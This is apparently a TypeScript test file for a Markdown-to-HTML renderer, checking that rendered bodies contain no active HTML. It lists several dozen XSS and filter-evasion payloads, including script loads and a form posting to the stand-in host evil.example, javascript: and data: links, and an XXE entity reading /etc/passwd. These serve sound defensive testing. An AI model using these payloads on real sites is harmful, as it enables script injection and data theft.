import { describe, expect, it } from '@jest/globals';
import * as fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { renderBody } from './render-body.js';

const tags = 'p br hr h2 h3 h4 h5 h6 blockquote ul ol li pre code em strong a'.split(' ');

/** What is active in a page: elements, attributes and addresses that the HTML has and may not have. */
function activeParts(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag: (name, attributes) => {
      if (!tags.includes(name)) found.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        const isKnown = (name === 'a' && ['href', 'title', 'rel'].includes(attribute)) || attribute === 'start';
        if (!isKnown) found.push(`${name} ${attribute}`);
        if (attribute === 'href' && !/^(https?:\/\/|mailto:|tel:)/i.test(value)) found.push(value);
      }
    },
    oncomment: (comment) => found.push(`<!--${comment}-->`),
    onprocessinginstruction: (name) => found.push(`<${name}>`),
  });
  parser.end(html);
  return found;
}

/** One of each kind of the attacks that OWASP's cheat sheet on evading filters names, and those of CommonMark. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<svg/onload=alert(1)>',
  '<svg><script href="data:text/javascript,alert(1)"/></svg>',
  '<math><mtext></p><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
  '<embed src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<form action="https://evil.example"><input name=nik></form>',
  '<body onload=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '<base href="javascript:alert(1)//">',
  '<div style="background:url(javascript:alert(1))">a</div>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  '<a href="javascript:alert(1)">a</a>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](java&#10;script:alert(1))',
  '[a](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#58;alert(1))',
  '[a](\u0001javascript:alert(1))',
  '[a](vbscript:msgbox(1))',
  '[a](data:text/html,<script>alert(1)</script>)',
  '[a](//evil.example)',
  '[a](https://a.example "x\\" onmouseover=alert(1)")',
  '[a](<https://a.example/"onmouseover=alert(1)//>)',
  '<javascript:alert(1)>',
  '![a](javascript:alert(1))',
  '![a" onerror="alert(1)](https://a.example/x.png)',
  '[a]: javascript:alert(1)\n\n[a]',
  '```html onload=alert(1)\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\na\n```',
  '`<script>alert(1)</script>`',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)</script>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<\u0000script>alert(1)</script>',
];

describe('the HTML of a body', () => {
  it.each(attacks)('has nothing active: %j', (attack) => {
    expect(activeParts(renderBody(attack))).toEqual([]);
    expect(activeParts(renderBody(`> - **${attack}**`))).toEqual([]);
  });

  it('has nothing active, whatever is written', () => {
    const pieces = fc.constantFrom(...attacks, '\n\n', '> ', '- ', '[', '](', ')', '<', '>', '"', '&', '`', '#', '*');
    const written = fc.array(fc.oneof(pieces, fc.string()), { maxLength: 12 }).map((parts) => parts.join(''));
    fc.assert(
      fc.property(written, (body) => expect(activeParts(renderBody(body))).toEqual([])),
      { numRuns: 1000 },
    );
  });

  it('shows HTML as it is written', () => {
    expect(renderBody('Pakai <b>masker</b>')).toBe('<p>Pakai &lt;b&gt;masker&lt;/b&gt;</p>');
  });

  it('has paragraphs, headings below that of the page, lists and links', () => {
    const body = '# Jadwal\n\nSetiap **Rabu**:\n\n1. daftar\n2. timbang\n\n[Posyandu](https://bogorkab.go.id "Situs")';
    expect(renderBody(body)).toBe(
      '<h2>Jadwal</h2>\n<p>Setiap <strong>Rabu</strong>:</p>\n<ol>\n<li>daftar</li>\n<li>timbang</li>\n</ol>\n' +
        '<p><a href="https://bogorkab.go.id" title="Situs" rel="nofollow noopener noreferrer">Posyandu</a></p>',
    );
  });
});
